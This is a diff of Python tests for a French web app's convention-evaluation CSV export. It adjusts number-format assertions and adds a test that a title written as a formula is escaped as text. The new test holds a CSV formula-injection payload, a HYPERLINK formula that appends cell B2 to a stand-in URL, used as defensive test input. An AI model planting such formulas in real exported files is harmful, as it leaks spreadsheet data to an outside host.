@@ -273,7 +273,8 @@ async def test_past_phase_is_evaluated_then_renewed(client, actors, db):
     csv_text = (
         await client.get(f"/api/conventions/{conv['id']}/evaluation.csv", headers=manager.headers)
     ).text
-    assert "Entreprises rencontrées;190;0;0.0" in csv_text
+    assert "Entreprises rencontrées;190;0;0" in csv_text.splitlines()
+    assert "Budget de la phase (euros);165000,00" in csv_text.splitlines()
     page = await client.get(f"/conventions/{conv['id']}/evaluation", headers=manager.headers)
     assert page.status_code == 200
     assert "Objectifs et réalisé" in page.text and "165\u202f000,00 €" in page.text
@@ -315,3 +316,28 @@ async def test_conventions_of_others_are_invisible(client, actors, role):
     assert r.status_code == 404
     r = await client.post(f"/api/conventions/{conv['id']}/snapshots", headers=h)
     assert r.status_code == 403
+
+
+async def test_a_title_written_as_a_formula_stays_text_in_the_evaluation_csv(client, actors):
+    body = convention_body(actors)
+    past = _phase(
+        body,
+        starts_on=(today() - timedelta(days=200)).isoformat(),
+        ends_on=(today() - timedelta(days=1)).isoformat(),
+    )
+    formula = '=HYPERLINK("http://x"&B2,"y")'
+    conv = await _create(client, actors, request_id="formula", title=formula, phase=past)
+    manager = actors["manager"]
+    await _sign(client, conv, actors["partner"])
+    await _sign(client, conv, manager)
+    await _until(client, conv, manager, lambda s: s["step"] == "evaluating", "evaluated")
+    url = f"/api/conventions/{conv['id']}/evaluation.csv"
+    for _ in range(100):  # the state says "evaluating" a moment before the row is stored
+        r = await client.get(url, headers=manager.headers)
+        if r.status_code != 404:
+            break
+        await asyncio.sleep(0.1)
+    assert r.status_code == 200 and r.headers["content-type"] == "text/csv; charset=utf-8"
+    assert r.content.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads the accents
+    first = r.content.decode("utf-8-sig").splitlines()[0]
+    assert first == 'Convention;"\'=HYPERLINK(""http://x""&B2,""y"")"'
